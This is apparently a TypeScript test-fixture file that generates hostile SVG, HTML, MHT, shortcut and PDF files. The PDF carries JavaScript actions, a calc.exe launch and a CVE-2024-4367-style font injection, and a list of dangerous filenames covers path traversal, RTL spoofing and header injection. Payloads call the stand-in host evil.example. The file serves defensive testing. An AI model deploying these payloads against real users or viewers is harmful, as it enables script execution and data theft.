/** Files and names that people are sent to harm them. Each sets `globalThis.ran` or asks `https://evil.example/` if it runs. */
import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";

const run = "globalThis.ran = true; fetch('https://evil.example/ran')";

export const svg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="${run}">
<script>${run}</script>
<image href="https://evil.example/image.png" width="9" height="9"/>
<foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/x" onerror="${run}"/></body></foreignObject>
</svg>`;

export const html = `<!doctype html><script>${run}</script><img src="https://evil.example/x" onerror="${run}"><iframe src="https://evil.example/"></iframe>`;
export const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body onload="${run}"><script>${run}</script></body></html>`;
export const mht = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`;
export const shortcut = "[InternetShortcut]\r\nURL=https://evil.example/\r\n";

/**
 * A PDF with a script, an opening action, a page action, links and a program to start, a form that sends itself, and
 * a font whose matrix is a script (the shape of CVE-2024-4367). It carries the mark of a signature, so that cleaning
 * leaves it as it is and the viewer meets all of it.
 */
export async function nastyPdf(): Promise<Uint8Array<ArrayBuffer>> {
  const document = await PDFDocument.create();
  const { context, catalog } = document;
  const page = document.addPage([200, 300]);
  page.drawRectangle({ x: 40, y: 40, width: 120, height: 220 });
  const script = context.obj({ S: "JavaScript", JS: PDFString.of(`${run}; app.launchURL('https://evil.example/js')`) });
  catalog.set(PDFName.of("OpenAction"), script);
  catalog.set(PDFName.of("Names"), context.obj({ JavaScript: { Names: [PDFString.of("start"), script] } }));
  page.node.set(PDFName.of("AA"), context.obj({ O: script }));
  const link = (action: Record<string, string | PDFString>) =>
    context.register(context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 200, 300], A: action }));
  page.node.set(
    PDFName.of("Annots"),
    context.obj([
      link({ S: "URI", URI: PDFString.of("https://evil.example/link") }),
      link({ S: "Launch", F: PDFString.of("calc.exe") }),
      link({ S: "SubmitForm", F: PDFString.of("https://evil.example/form") }),
      link({ S: "JavaScript", JS: PDFString.of(run) }),
    ]),
  );
  const matrix = PDFString.of(`1\\); ${run}; //`);
  const font = context.register(
    context.obj({
      Type: "Font",
      Subtype: "Type1",
      BaseFont: "Evil",
      FirstChar: 65,
      LastChar: 65,
      Widths: [500],
      FontMatrix: [0.1, 0, 0, 0.1, 0, matrix],
      FontDescriptor: context.register(
        context.obj({
          Type: "FontDescriptor",
          FontName: "Evil",
          Flags: 4,
          FontFile: context.register(
            context.stream(`%!PS-AdobeFont-1.0: Evil\n/FontMatrix [0.1 0 0 0.1 0 (1\\); ${run}; //)] def\neexec\n`),
          ),
        }),
      ),
    }),
  );
  page.node.setFontDictionary(PDFName.of("F1"), font);
  page.node.addContentStream(context.register(context.stream("BT /F1 40 Tf 20 100 Td (A) Tj ET")));
  catalog.set(PDFName.of("Mark"), context.obj({ ByteRange: [0, 1, 2, 3] }));
  return new Uint8Array(await document.save({ useObjectStreams: false }));
}

/** First a PDF by its letters, and then a page that runs. */
export const polyglot = `%PDF-1.7\n${html}\n%%EOF\n`;

/** Names of files that are taken for something else, or for somewhere else (ATTACKS.md D8). */
export const fileNames = [
  "../../etc/passwd.txt",
  "..\\..\\x.txt",
  "CON.txt",
  "nul\0byte.txt",
  `${"a".repeat(4_000)}.txt`,
  "rapport\u202Etxt.exe",
  'a"b\r\nSet-Cookie: c=d.txt',
  ".bashrc",
  "👩‍👧‍👦🏳️‍🌈.txt",
  "<img src=x onerror=globalThis.ran=true>.txt",
] as const;
